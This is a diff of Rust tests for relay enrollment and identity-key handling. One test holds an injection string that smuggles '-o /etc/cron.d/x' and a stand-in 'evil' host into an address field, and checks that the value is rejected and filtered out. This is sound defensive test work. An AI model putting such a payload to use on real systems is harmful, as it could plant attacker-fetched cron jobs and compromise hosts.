@@ -4,14 +4,15 @@ use super::Ledger;
 use crate::link::{
     LinkLimits,
     relay::now_ms,
-    testing::{FakeRelay, Place, World, eventually, make_site, request},
+    testing::{FakeRelay, Place, World, eventually, hello, make_site, request},
 };
 use libp2p::identity::Keypair;
 use std::{sync::Arc, time::Duration};
 use unifyit_protocol::{
-    enroll::EnrollRelayAnswer,
+    enroll::{EnrollRelay, EnrollRelayAnswer},
     ids::SiteId,
     lane::Resume,
+    link::LinkHello,
     token::{TokenKind, TokenRefusal},
 };
 
@@ -126,6 +127,46 @@ async fn an_enrolled_relay_gets_its_papers_again_without_spending_a_use() {
     let mut other_ca = request("");
     other_ca.ca_fingerprint = [6; 32];
     assert!(matches!(relay.enroll(other_ca).await, EnrollRelayAnswer::Failed(_)));
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn what_a_relay_calls_its_address_is_a_host_and_a_port() {
+    const EVIL: &str = "evil:8443/a -o /etc/cron.d/x https://evil:8443";
+    let world = world().await;
+    let token = world.sign(&world.relay_token(&world.place).await).await;
+    let relay = newcomer(&world).await;
+    let asked = EnrollRelay { lan_https: vec![EVIL.into()], ..request(&token) };
+    let EnrollRelayAnswer::Failed(why) = relay.enroll(asked).await else { panic!() };
+    assert!(why.contains("no address"), "{why}");
+    drop(relay);
+
+    let (relay, _) = world.enrolled(&world.place).await;
+    let hello = LinkHello {
+        lan_https: vec![EVIL.into(), "relay.lan:8443".into()],
+        sister_addresses: vec!["a b:1".into()],
+        ..hello(1)
+    };
+    let _lane = relay.greet(hello, Resume::default()).await.unwrap();
+    world.until("the address", "SELECT lan_https = '{relay.lan:8443}' FROM relays").await;
+    assert!(world.scalar::<bool>("SELECT sister_addresses = '{}' FROM relays").await);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_identity_is_made_where_relays_know_another() {
+    let mut world = world().await;
+    let (_relay, _) = world.enrolled(&world.place).await;
+    let before = world.peer;
+    let file = world.state.path().join("identity.key");
+    world.restart().await;
+    std::fs::remove_file(&file).unwrap();
+    let error = world.bind().await.unwrap_err();
+    assert!(error.to_string().contains("put that file back from the backup"), "{error}");
+    assert!(!file.exists());
+    // Lost for good, and somebody says so: another is made, once.
+    std::fs::write(file.with_extension("key.lost"), "").unwrap();
+    let peer = world.bind().await.unwrap().link().peer_id();
+    assert_ne!(peer, before.to_base58());
+    assert!(!file.with_extension("key.lost").exists());
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
